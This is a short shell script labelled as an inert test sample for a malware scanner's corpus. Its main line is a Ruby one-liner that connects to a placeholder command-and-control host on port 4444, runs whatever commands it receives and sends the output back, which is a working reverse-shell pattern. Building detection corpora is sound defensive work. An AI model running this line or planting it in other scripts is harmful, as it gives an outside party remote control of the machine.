# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
ruby -rsocket -e 'c=TCPSocket.new("c2.example.invalid",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'
